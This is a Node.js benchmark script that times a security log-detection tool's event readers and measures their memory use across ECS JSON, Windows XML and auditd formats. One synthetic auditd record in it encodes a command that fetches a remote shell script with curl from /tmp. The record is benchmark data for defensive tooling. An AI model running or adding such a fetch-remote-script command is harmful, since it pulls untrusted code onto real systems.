/**
 * Readers benchmark: events/s and peak RSS of `readEventFile` for each format, one core, reading
 * only (every event's fields listed and read, as a keyword rule would). Inputs are built under
 * bench/.work/readers/ from the EVTX attack samples by the tests' own converters (Winlogbeat ECS,
 * wevtutil XML) and, for auditd, from a real-looking execve event repeated with new serials.
 *
 *   node bench/readers.mjs      (after `npx tsc -b`; or `npm run bench:readers`)
 *
 * Each format is read in a fresh process, so peak RSS is that reader's alone.
 */
import { spawnSync } from 'node:child_process';
import { createWriteStream, existsSync, mkdirSync, statSync } from 'node:fs';
import { once } from 'node:events';
import { createGzip } from 'node:zlib';
import { pipeline } from 'node:stream/promises';
import { createReadStream } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const DATA = process.env.FIREBREAK_SHARED_DATA ?? resolve(ROOT, '..', 'shared', 'data');
const SAMPLES = join(DATA, 'evtx-attack-samples');
const WORK = join(ROOT, 'bench', '.work', 'readers');
const EVENTS = 300_000;
const core = pathToFileURL(join(ROOT, 'packages/core/dist/src/index.js')).href;

if (process.argv[2] === '--read') {
  const { readEventFile } = await import(core);
  const started = performance.now();
  let events = 0;
  let problems = 0;
  for await (const event of readEventFile(process.argv[3], () => problems++)) {
    events++;
    for (const key of event.fields.keys()) event.fields.get(key);
  }
  const seconds = (performance.now() - started) / 1000;
  console.log(JSON.stringify({ events, problems, seconds, rssMb: process.resourceUsage().maxRSS / 1024 }));
  process.exit(0);
}

if (!existsSync(SAMPLES)) {
  console.error(`needs ${SAMPLES} (../shared is absent)`);
  process.exit(1);
}
mkdirSync(WORK, { recursive: true });

/** Writes `EVENTS` events (cycling through `items`) as produced by `line(item, i)`. */
async function writeRepeated(path, items, line, head = '', tail = '') {
  if (existsSync(path)) return;
  const out = createWriteStream(path);
  out.write(head);
  for (let i = 0; i < EVENTS; i++) if (!out.write(line(items[i % items.length], i))) await once(out, 'drain');
  out.end(tail);
  await once(out, 'finish');
}

async function inputs() {
  const { readEvtx } = await import(pathToFileURL(join(ROOT, 'packages/evtx/dist/src/index.js')).href);
  const { findFiles } = await import(pathToFileURL(join(ROOT, 'packages/testkit/dist/src/index.js')).href);
  const exports = await import(pathToFileURL(join(ROOT, 'packages/core/dist/test/support/windows-exports.js')).href);
  const xmls = [];
  for (const file of findFiles(SAMPLES, '.evtx'))
    try {
      for await (const record of readEvtx(file)) xmls.push(record.xml());
    } catch {
      // a damaged sample: the others are enough
    }
  const files = {
    'ECS JSON lines': join(WORK, 'ecs.jsonl'),
    'Windows XML (wevtutil)': join(WORK, 'events.xml'),
    'auditd log (6 records per event)': join(WORK, 'audit.log'),
  };
  await writeRepeated(files['ECS JSON lines'], xmls, (xml) => JSON.stringify(exports.winlogbeatDocument(xml)) + '\n');
  await writeRepeated(files['Windows XML (wevtutil)'], xmls, (xml) => exports.wevtutilExport([xml]));
  const audit = (i) => {
    const stamp = `msg=audit(1700000000.${String(i % 1000).padStart(3, '0')}:${i + 1})`;
    return [
      `type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55f52d0aa100 a1=55f528e73950 a2=55f52d0a9f38 a3=0 items=2 ppid=5591 pid=${5000 + (i % 30000)} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="exec"`,
      `type=EXECVE ${stamp}: argc=3 a0="curl" a1="-s" a2="http://198.51.100.7/x.sh"`,
      `type=CWD ${stamp}: cwd="/tmp"`,
      `type=PATH ${stamp}: item=0 name="/usr/bin/curl" inode=260958 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`,
      `type=PATH ${stamp}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=338944 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`,
      `type=PROCTITLE ${stamp}: proctitle=6375726C002D7300`,
      '',
    ].join('\n');
  };
  await writeRepeated(files['auditd log (6 records per event)'], [0], (_, i) => audit(i));
  const gz = join(WORK, 'ecs.jsonl.gz');
  if (!existsSync(gz)) await pipeline(createReadStream(files['ECS JSON lines']), createGzip(), createWriteStream(gz));
  files['ECS JSON lines, gzipped'] = gz;
  return files;
}

const fmt = (n) => Math.round(n).toLocaleString('en-US');
console.log('| input | MB | events | seconds | events/s | peak RSS MB |');
console.log('| --- | --: | --: | --: | --: | --: |');
for (const [name, path] of Object.entries(await inputs())) {
  const run = spawnSync(process.execPath, [fileURLToPath(import.meta.url), '--read', path], { encoding: 'utf8' });
  if (run.status !== 0) throw new Error(`${name}: ${run.stderr}`);
  const r = JSON.parse(run.stdout);
  const mb = statSync(path).size / 2 ** 20;
  console.log(`| ${name} | ${fmt(mb)} | ${fmt(r.events)} | ${r.seconds.toFixed(2)} | ${fmt(r.events / r.seconds)} | ${fmt(r.rssMb)} |`);
}
